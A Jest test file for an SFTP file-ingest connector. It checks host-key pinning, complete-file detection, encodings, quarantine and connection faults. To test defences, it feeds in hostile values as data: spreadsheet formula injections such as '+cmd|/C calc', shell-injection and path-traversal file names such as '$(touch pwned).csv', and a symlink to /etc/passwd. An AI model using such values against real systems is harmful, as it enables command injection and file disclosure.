import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import * as iconv from 'iconv-lite';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { IngestError } from '../../libs/pipeline/ingest/ingest-error';
import { noRecords, reliabilityCase } from '../../test/support/reliability';
import { startSftpServer, type TestSftpServer } from '../../test/support/sftp-server';
import { ConnectorError, type Connector, type Feedback, type FeedbackRejection, type ReadBatch } from '../connector.contract';
import { sftpManifest } from './manifest';
import { sftpConfigSchema, type SftpConfigInput } from './sftp.config';
import { permissiveEgressGuard } from '../../libs/security/egress-policy';

/**
 * Against a real OpenSSH server on loopback (test/support/sftp-server.ts). The test plays the
 * supplier through the local file system (the server's folders are local), and the runtime by
 * iterating batches and calling acknowledge/quarantine/deliverFeedback as it would.
 */

const FIXTURES = path.join(__dirname, 'fixtures');
const FIXED_NOW = new Date(Date.UTC(2026, 2, 1, 8, 5, 9, 123));
const LOCAL_NAME = /^sftp-[0-9a-f-]{36}\.download$/;

let server: TestSftpServer;
let scratch: string;
let workDir: string;
let logLines: string[];
const open: Connector[] = [];

const dir = (name: 'drop' | 'processed' | 'error' | 'feedback'): string => path.join(server.root, name);

function connector(overrides: Partial<SftpConfigInput> = {}): Connector {
  const config = sftpConfigSchema.parse({
    host: server.host,
    port: server.port,
    username: server.username,
    password: server.password,
    hostKeySha256: server.hostKeySha256,
    dropDir: dir('drop'),
    processedDir: dir('processed'),
    errorDir: dir('error'),
    feedbackDir: dir('feedback'),
    completion: { mode: 'done-marker', suffix: '.ok' },
    timeouts: { connectSeconds: 10, operationSeconds: 20, transferIdleSeconds: 20 },
    ...overrides,
  });
  const created = sftpManifest.create(config, {
    workDir,
    now: () => FIXED_NOW,
    log: (level, message) => logLines.push(`${level} ${message}`),
    egress: permissiveEgressGuard(),
  });
  open.push(created);
  return created;
}

/** The supplier drops a file (and its marker). */
function drop(name: string, content: string | Buffer, marker = true): void {
  fs.writeFileSync(path.join(dir('drop'), name), content);
  if (marker) fs.writeFileSync(path.join(dir('drop'), `${name}.ok`), '');
}

interface Read {
  readonly batch: ReadBatch;
  readonly records: Record<string, unknown>[];
}

/** What the runtime does: every batch, every record, in order. */
async function readAll(c: Connector): Promise<Read[]> {
  const out: Read[] = [];
  for await (const batch of c.read(null)) {
    const records: Record<string, unknown>[] = [];
    for await (const r of batch.records) records.push(r);
    out.push({ batch, records });
  }
  return out;
}

async function caught(p: Promise<unknown>): Promise<unknown> {
  try {
    await p;
  } catch (e) {
    return e;
  }
  throw new Error('expected a rejection');
}

function rejection(overrides: Partial<FeedbackRejection> = {}): FeedbackRejection {
  return {
    index: 0,
    sourceKey: null,
    field: '统一社会信用代码',
    code: 'INVALID_USCC',
    value: '91350200MA2XYZ1234',
    message: '统一社会信用代码校验位错误',
    hint: '请核对第 18 位校验码',
    ...overrides,
  };
}

function feedbackFor(batch: ReadBatch, rejections: FeedbackRejection[]): Feedback {
  return {
    batchId: 'b-1',
    label: batch.label,
    address: batch.feedbackAddress,
    received: 3,
    loaded: 3 - rejections.length,
    rejected: rejections.length,
    rejections,
  };
}

const ls = (folder: string): string[] => fs.readdirSync(folder).sort();

beforeAll(async () => {
  server = await startSftpServer();
  scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'hub-sftp-test-'));
}, 60_000);

afterAll(async () => {
  await server?.stop();
  if (scratch) fs.rmSync(scratch, { recursive: true, force: true });
});

beforeEach(() => {
  for (const name of ['drop', 'processed', 'error', 'feedback'] as const) {
    for (const entry of fs.readdirSync(dir(name))) fs.rmSync(path.join(dir(name), entry), { force: true, recursive: true });
  }
  workDir = fs.mkdtempSync(path.join(scratch, 'work-'));
  logLines = [];
});

afterEach(async () => {
  await Promise.all(open.splice(0).map((c) => c.close()));
});

describe('check()', () => {
  it('connects with a password and finds the four folders', async () => {
    await expect(connector().check()).resolves.toBeUndefined();
  });

  it('connects with a private key, plain or encrypted with its passphrase', async () => {
    await expect(connector({ password: undefined, privateKey: server.privateKeyPem }).check()).resolves.toBeUndefined();
    await expect(
      connector({ password: undefined, privateKey: server.encryptedPrivateKeyPem, passphrase: server.passphrase }).check(),
    ).resolves.toBeUndefined();
  });

  it('classes a wrong password as a config error AUTH_FAILED', async () => {
    const error = await caught(connector({ password: 'wrong-password' }).check());
    expect(error).toBeInstanceOf(ConnectorError);
    expect(error).toMatchObject({ errorClass: 'config', code: 'AUTH_FAILED' });
    expect((error as Error).message).not.toContain('wrong-password');
  });

  reliabilityCase(
    {
      id: 'D5-host-key',
      group: 'D connector',
      title: 'an SFTP server with another host key is refused before any credential is sent',
      channel: 'SFTP, connector against a loopback sshd',
      input: 'the connector is configured with a host key fingerprint other than the server\'s',
      expected: 'a config-class HOST_KEY_MISMATCH naming the offered key; never auto-accepted; no authentication attempt in the server log',
    },
    async () => {
    const other = `SHA256:${'x'.repeat(43)}`;
    const authAttempts = (): number => (fs.readFileSync(server.logFile, 'utf8').match(/(Accepted|Failed) (password|publickey)/g) ?? []).length;
    const before = authAttempts();
    const error = await caught(connector({ hostKeySha256: other }).check());
    expect(error).toMatchObject({ errorClass: 'config', code: 'HOST_KEY_MISMATCH' });
    // The operator is told which key the server offered, to check it with the supplier.
    expect((error as Error).message).toContain(server.hostKeySha256);
    // Refused before authenticating: the password never went to the impostor.
    await sleep(200);
    expect(authAttempts()).toBe(before);
    return noRecords('HOST_KEY_MISMATCH (config) naming the offered key; 0 authentication attempts');
  });

  it('classes a closed port as retryable', async () => {
    const error = await caught(connector({ port: 1 }).check());
    expect(error).toMatchObject({ errorClass: 'retryable', code: 'NETWORK' });
  });

  it('classes a missing folder as a config error', async () => {
    const error = await caught(connector({ errorDir: `${server.root}/no-such-folder` }).check());
    expect(error).toMatchObject({ errorClass: 'config', code: 'MISSING_DIR' });
  });
});

describe('picking only complete files (anchors D2)', () => {
  reliabilityCase(
    {
      id: 'D2',
      group: 'D connector',
      title: 'an SFTP file still being written is not picked until it is complete',
      channel: 'SFTP, connector against a loopback sshd',
      input: 'a supplier appends one line a second to slow.ndjson for 10 s; the connector (stable mode, 3 s window) reads in a loop meanwhile',
      expected: 'no read during the writing picks the file; the first read after it holds all 10 lines; never a truncated ingest',
    },
    async () => {
    const c = connector({ completion: { mode: 'stable', windowSeconds: 3 } });
    const file = path.join(dir('drop'), 'slow.ndjson');
    fs.writeFileSync(file, '');
    let writing = true;
    const writer = (async () => {
      for (let i = 0; i < 10; i++) {
        fs.appendFileSync(file, `${JSON.stringify({ line: i, subject_name: `厦门测试企业${i}有限公司` })}\n`);
        await sleep(1_000);
      }
      writing = false;
    })();
    const duringWrite: Read[][] = [];
    while (writing) {
      const reads = await readAll(c);
      // A read that ended while the writer was still at it must not have picked the file.
      if (writing) duringWrite.push(reads);
      // Whatever was picked, it was never a truncated file.
      for (const r of reads) expect(r.records).toHaveLength(10);
    }
    await writer;
    expect(duringWrite.length).toBeGreaterThanOrEqual(2);
    expect(duringWrite.flat()).toEqual([]);

    const after = await readAll(c);
    expect(after).toHaveLength(1);
    expect(after[0]?.records.map((r) => r.line)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
    const read = after[0]?.records.map((r) => String(r.line)) ?? [];
    return {
      observed: `${duringWrite.length} reads during the writing picked nothing; then 1 batch of ${read.length} lines`,
      accepted: read.length,
      loaded: read.length,
      rejected: 0,
      lost: 10 - new Set(read).size,
      duplicated: read.length - new Set(read).size,
      answers500: 0,
      stuckBatches: 0,
    };
  }, 40_000);

  it('picks a done-marker file only once its .ok marker exists', async () => {
    const c = connector();
    drop('penalties.ndjson', fs.readFileSync(path.join(FIXTURES, 'licences.ndjson')), false);
    expect(await readAll(c)).toEqual([]);
    fs.writeFileSync(path.join(dir('drop'), 'penalties.ndjson.ok'), '');
    const reads = await readAll(c);
    expect(reads).toHaveLength(1);
    expect(reads[0]?.records).toHaveLength(3);
    expect(reads[0]?.batch.label).toBe('penalties.ndjson');
  });

  it('ignores hidden upload names, .part files, markers and symbolic links', async () => {
    const c = connector();
    drop('.upload.csv', 'a\n1\n');
    drop('x.csv.part', 'a\n1\n');
    fs.symlinkSync('/etc/passwd', path.join(dir('drop'), 'passwd.csv'));
    drop('passwd.csv.ok', '', false);
    expect(await readAll(c)).toEqual([]);
  });
});

describe('batches', () => {
  it('keys a batch by content hash: the same content under two names gets the same key', async () => {
    const content = fs.readFileSync(path.join(FIXTURES, 'licences.ndjson'));
    drop('a.ndjson', content);
    drop('copy-of-a.ndjson', content);
    drop('other.ndjson', Buffer.concat([content, Buffer.from('{"source_key":"XK-2026-0004"}\n')]));
    const reads = await readAll(connector());
    const byLabel = new Map(reads.map((r) => [r.batch.label, r.batch]));
    expect(byLabel.get('a.ndjson')?.key).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(byLabel.get('copy-of-a.ndjson')?.key).toBe(byLabel.get('a.ndjson')?.key);
    expect(byLabel.get('other.ndjson')?.key).not.toBe(byLabel.get('a.ndjson')?.key);
    expect(byLabel.get('a.ndjson')?.cursorAfter).toEqual({ lastFile: 'a.ndjson', lastHash: byLabel.get('a.ndjson')?.key });
  });

  it('reads a GBK CSV with Chinese headers and writes its feedback file in GBK, formula-safe', async () => {
    const c = connector({ encoding: 'gbk' });
    drop('penalties.csv', fs.readFileSync(path.join(FIXTURES, 'penalties.gbk.csv')));
    const [read] = await readAll(c);
    expect(read?.records).toHaveLength(3);
    expect(read?.records[0]).toEqual({
      行政相对人名称: '厦门鹭岛贸易有限公司',
      统一社会信用代码: '91350200MA2XYZ1234',
      决定文书号: '厦市监罚〔2026〕101号',
      违法行为类型: '虚假宣传',
      处罚内容: '罚款人民币五千元',
      '罚款金额（元）': '5000.00',
      处罚决定日期: '2026-03-02',
    });
    expect(read?.records[2]?.['处罚内容']).toBe('没收违法所得, 罚款人民币二万元');
    const batch = read!.batch;
    expect(batch.feedbackAddress).toEqual({ remoteName: 'penalties.csv', encoding: 'gbk', format: 'csv' });

    const rejections = [rejection({ index: 1, value: '=HYPERLINK("http://x/?"&A1)' }), rejection({ index: 2, field: '处罚内容', value: '+cmd|/C calc' })];
    await c.deliverFeedback(feedbackFor(batch, rejections));
    // A retry overwrites the earlier delivery: one file, same content, no .part left behind.
    await c.deliverFeedback(feedbackFor(batch, rejections));
    expect(ls(dir('feedback'))).toEqual(['penalties.csv.rejections.csv']);

    const bytes = fs.readFileSync(path.join(dir('feedback'), 'penalties.csv.rejections.csv'));
    expect(bytes.subarray(0, 3)).not.toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow();
    const table = parse(iconv.decode(bytes, 'gbk')) as string[][];
    expect(table[0]).toEqual(['序号(index)', '记录标识(sourceKey)', '字段(field)', '代码(code)', '值(value)', '说明(message)', '修改建议(hint)']);
    expect(table[1]).toEqual(['1', '', '统一社会信用代码', 'INVALID_USCC', `'=HYPERLINK("http://x/?"&A1)`, '统一社会信用代码校验位错误', '请核对第 18 位校验码']);
    expect(table[2]?.[4]).toBe("'+cmd|/C calc");
  });

  it('writes the feedback of a UTF-8 file in UTF-8 with a BOM', async () => {
    const c = connector();
    drop('licences.ndjson', fs.readFileSync(path.join(FIXTURES, 'licences.ndjson')));
    const [read] = await readAll(c);
    expect(read?.records[2]?.subject_name).toBe('=HYPERLINK("http://x.example/?"&A1)');
    await c.deliverFeedback(feedbackFor(read!.batch, [rejection({ value: String(read?.records[2]?.subject_name) })]));
    const bytes = fs.readFileSync(path.join(dir('feedback'), 'licences.ndjson.rejections.csv'));
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const table = parse(bytes.toString('utf8'), { bom: true }) as string[][];
    expect(table[1]?.[4]).toBe(`'=HYPERLINK("http://x.example/?"&A1)`);
  });

  it('refuses a GBK-declared supplier file that is really UTF-8 (ENCODING_MISMATCH while iterating)', async () => {
    const c = connector({ encoding: 'gbk' });
    drop('utf8.csv', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('名称\n厦门\n')]));
    const batches: ReadBatch[] = [];
    for await (const b of c.read(null)) batches.push(b);
    const error = await caught((async () => {
      for await (const _r of batches[0]!.records) {
        // drain
      }
    })());
    expect(error).toBeInstanceOf(IngestError);
    expect(error).toMatchObject({ code: 'ENCODING_MISMATCH' });
  });
});

describe('acknowledge and quarantine', () => {
  it('acknowledge moves the file and its marker to processed/ under a UTC timestamp, and frees the local copy', async () => {
    const c = connector();
    drop('licences.ndjson', fs.readFileSync(path.join(FIXTURES, 'licences.ndjson')));
    const [read] = await readAll(c);
    expect(ls(workDir)).toHaveLength(1);
    await read!.batch.acknowledge!('batch-1');
    await read!.batch.acknowledge!('batch-1');
    expect(ls(dir('drop'))).toEqual([]);
    expect(ls(dir('processed'))).toEqual(['2026-03-01T08-05-09.123Z_licences.ndjson', '2026-03-01T08-05-09.123Z_licences.ndjson.ok']);
    expect(ls(workDir)).toEqual([]);
    expect(await readAll(c)).toEqual([]);
  });

  it('quarantine moves an unreadable file to error/ with a Chinese reason file', async () => {
    const c = connector();
    drop('broken.ndjson', '{"source_key":"A"}\n{"source_key": oops}\n');
    const batches: ReadBatch[] = [];
    for await (const b of c.read(null)) batches.push(b);
    const batch = batches[0]!;
    const error = await caught((async () => {
      for await (const _r of batch.records) {
        // drain
      }
    })());
    expect(error).toMatchObject({ code: 'MALFORMED_BODY' });
    await batch.quarantine!((error as Error).message);
    expect(ls(dir('drop'))).toEqual([]);
    expect(ls(dir('error'))).toEqual([
      '2026-03-01T08-05-09.123Z_broken.ndjson',
      '2026-03-01T08-05-09.123Z_broken.ndjson.ok',
      '2026-03-01T08-05-09.123Z_broken.ndjson.reason.txt',
    ]);
    const reason = fs.readFileSync(path.join(dir('error'), '2026-03-01T08-05-09.123Z_broken.ndjson.reason.txt'), 'utf8');
    expect(reason).toContain('文件：broken.ndjson');
    expect(reason).toContain(`原因：${(error as Error).message}`);
    expect(reason).toContain(batch.key);
    expect(ls(workDir)).toEqual([]);
  });

  it('quarantines a file over maxFileBytes without downloading it', async () => {
    const c = connector({ maxFileBytes: 100 });
    drop('huge.csv', `a\n${'1\n'.repeat(100)}`);
    expect(await readAll(c)).toEqual([]);
    expect(ls(dir('error'))).toEqual(['2026-03-01T08-05-09.123Z_huge.csv', '2026-03-01T08-05-09.123Z_huge.csv.ok', '2026-03-01T08-05-09.123Z_huge.csv.reason.txt']);
    expect(ls(workDir)).toEqual([]);
  });

  it('close() deletes local copies of batches never acknowledged', async () => {
    const c = connector();
    drop('a.ndjson', '{"a":1}\n');
    drop('b.ndjson', '{"b":1}\n');
    expect(await readAll(c)).toHaveLength(2);
    expect(ls(workDir)).toHaveLength(2);
    await c.close();
    expect(ls(workDir)).toEqual([]);
    expect(ls(dir('drop'))).toHaveLength(4);
  });
});

describe('hostile remote names (anchors 3.4, E8)', () => {
  reliabilityCase(
    {
      id: 'E8-hostile-sftp-names',
      group: 'E hostile input',
      title: 'hostile remote file names never become local paths, log lines or server names unescaped',
      channel: 'SFTP',
      input: 'drops named a\\nb.csv, sub\\..\\..\\x.csv, -rf.csv, $(touch pwned).csv, CON.csv, an 80-character Chinese name, a bidi override, and hidden ..\\..\\x.csv',
      expected: 'every visible file read once; local copies only under generated names inside workDir; labels, cursors, logs and processed/feedback names escaped; hidden names never picked',
    },
    async () => {
      const c = connector();
      const names = ['a\nb.csv', 'sub\\..\\..\\x.csv', '-rf.csv', '$(touch pwned).csv', 'CON.csv', `${'长'.repeat(80)}.csv`, 'bidi\u202Evsc.csv'];
      for (const name of names) drop(name, 'col\nv\n');
      // Names starting with a dot are uploads in progress (hidden), never picked.
      for (const name of ['..\\..\\x.csv', '....csv']) drop(name, 'col\nv\n');
      const scratchBefore = ls(scratch);
      const seenLocal = new Set<string>();
      const reads: Read[] = [];
      for await (const batch of c.read(null)) {
        const records: Record<string, unknown>[] = [];
        for await (const r of batch.records) records.push(r);
        reads.push({ batch, records });
        for (const f of ls(workDir)) seenLocal.add(f);
      }
      expect(reads).toHaveLength(names.length);
      for (const f of seenLocal) expect(f).toMatch(LOCAL_NAME);
      expect(ls(scratch)).toEqual(scratchBefore);
      expect(fs.existsSync(path.join(scratch, '..', 'x.csv'))).toBe(false);
      for (const { batch } of reads) {
        expect(batch.label).not.toMatch(/[\n\r\u202e]/);
        expect(JSON.stringify(batch.cursorAfter)).not.toMatch(/\\n|\u202e/);
      }
      const labels = reads.map((r) => r.batch.label);
      expect(labels).toContain('a\\x0ab.csv');
      expect(labels).toContain('sub\\x5c..\\x5c..\\x5cx.csv');
      expect(logLines.every((l) => !l.includes('\n'))).toBe(true);

      // Names created on the server are the escaped ones: no control character reaches processed/ or feedback/.
      const newline = reads.find((r) => r.batch.label === 'a\\x0ab.csv')!.batch;
      await newline.acknowledge!('b');
      await c.deliverFeedback(feedbackFor(newline, [rejection()]));
      expect(ls(dir('processed'))).toContain('2026-03-01T08-05-09.123Z_a\\x0ab.csv');
      expect(ls(dir('feedback'))).toEqual(['a\\x0ab.csv.rejections.csv']);
      return {
        observed: `${reads.length} files read under generated local names; labels escaped (${labels.slice(0, 2).join(', ')}…); nothing written outside workDir`,
        accepted: 0, loaded: 0, rejected: 0, lost: 0, duplicated: 0, answers500: 0, stuckBatches: 0,
      };
    },
  );

  it('refuses a feedback address that would leave the feedback folder', async () => {
    const c = connector();
    for (const remoteName of ['../../x.csv', '../error/x.csv', '/etc/x.csv', '..']) {
      const error = await caught(
        c.deliverFeedback({ batchId: 'b', label: 'x', address: { remoteName, encoding: 'utf-8', format: 'csv' }, received: 1, loaded: 0, rejected: 1, rejections: [rejection()] }),
      );
      expect(error).toMatchObject({ errorClass: 'data', code: 'BAD_FEEDBACK_ADDRESS' });
    }
    expect(ls(dir('feedback'))).toEqual([]);
    expect(ls(dir('error'))).toEqual([]);
    expect(fs.existsSync(path.join(server.root, '..', 'x.csv'))).toBe(false);
  });
});

describe('connection faults (anchors D1, D5)', () => {
  it('survives the server dropping the connection between operations: no crash, the next operation is retryable', async () => {
    const c = connector();
    await c.check();
    await server.killSessions();
    await sleep(200);
    drop('a.ndjson', '{"a":1}\n');
    const error = await caught(readAll(c));
    expect(error).toMatchObject({ errorClass: 'retryable', code: 'CONNECTION_LOST' });
    // A new instance (what the runtime builds for the retry) reads the file.
    expect(await readAll(connector())).toHaveLength(1);
  });

  reliabilityCase(
    {
      id: 'D1',
      group: 'D connector',
      title: 'an SFTP download cut mid-transfer is discarded and the remote file left in place',
      channel: 'SFTP, connector against a loopback sshd',
      input: 'a 100 MB NDJSON drop with its .ok marker; the server kills the session once the local copy has bytes',
      expected: 'a retryable CONNECTION_LOST; the partial local copy deleted; the file and marker still in drop/, nothing in processed/; no batch',
    },
    async () => {
    const c = connector();
    const big = path.join(dir('drop'), 'big.ndjson');
    const line = `${JSON.stringify({ subject_name: '厦门测试企业有限公司', note: 'x'.repeat(200) })}\n`;
    fs.writeFileSync(big, line.repeat(400_000));
    fs.writeFileSync(`${big}.ok`, '');
    const reading = caught(readAll(c));
    // Cut the connection once the download has started.
    let partial = false;
    for (let i = 0; i < 2_000 && !partial; i++) {
      partial = ls(workDir).some((f) => fs.statSync(path.join(workDir, f)).size > 0);
      if (!partial) await sleep(2);
    }
    await server.killSessions();
    const error = await reading;
    expect(partial).toBe(true);
    expect(error).toMatchObject({ errorClass: 'retryable', code: 'CONNECTION_LOST' });
    expect(ls(workDir)).toEqual([]);
    expect(ls(dir('drop'))).toEqual(['big.ndjson', 'big.ndjson.ok']);
    expect(ls(dir('processed'))).toEqual([]);
    return noRecords(`${(error as ConnectorError).code} (${(error as ConnectorError).errorClass}); local copy deleted; file and marker left in drop/`);
  }, 60_000);

  reliabilityCase(
    {
      id: 'D3',
      group: 'D connector',
      title: 'a silent short read (the file ends early, no error) is never taken as the whole file',
      channel: 'SFTP, connector against a loopback sshd',
      input: 'a 26 MB NDJSON drop with its .ok marker is cut to half its size, its mtime kept, while it downloads: the server ends the stream early without an error',
      expected: 'no batch from the short copy (its size no longer matches the listing); the local copy deleted; the file left in drop/; the complete file, dropped again, is read whole',
    },
    async () => {
      const c = connector();
      const big = path.join(dir('drop'), 'short.ndjson');
      const line = `${JSON.stringify({ subject_name: '厦门测试企业有限公司', note: 'y'.repeat(200) })}\n`;
      const lines = 100_000;
      fs.writeFileSync(big, line.repeat(lines));
      fs.writeFileSync(`${big}.ok`, '');
      const listed = fs.statSync(big);
      const reading = readAll(c);
      let partial = false;
      for (let i = 0; i < 2_000 && !partial; i++) {
        partial = ls(workDir).some((f) => fs.statSync(path.join(workDir, f)).size > 0);
        if (!partial) await sleep(2);
      }
      fs.truncateSync(big, Math.floor(listed.size / 2));
      fs.utimesSync(big, listed.atime, listed.mtime);
      const batches = await reading;
      expect(partial).toBe(true);
      expect(batches).toEqual([]);
      expect(ls(workDir)).toEqual([]);
      expect(ls(dir('drop'))).toEqual(['short.ndjson', 'short.ndjson.ok']);
      expect(ls(dir('processed'))).toEqual([]);
      // The supplier drops the complete file again, then its marker.
      fs.rmSync(`${big}.ok`);
      fs.writeFileSync(big, line.repeat(lines));
      fs.writeFileSync(`${big}.ok`, '');
      const again = await readAll(connector());
      expect(again).toHaveLength(1);
      expect(again[0].records).toHaveLength(lines);
      return {
        observed: `short copy: 0 batches, local copy deleted, file left in drop/; the complete file read again: 1 batch of ${again[0].records.length} records`,
        accepted: again[0].records.length,
        loaded: again[0].records.length,
        rejected: 0,
        lost: lines - again[0].records.length,
        duplicated: 0,
        answers500: 0,
        stuckBatches: 0,
      };
    },
    180_000,
  );
});
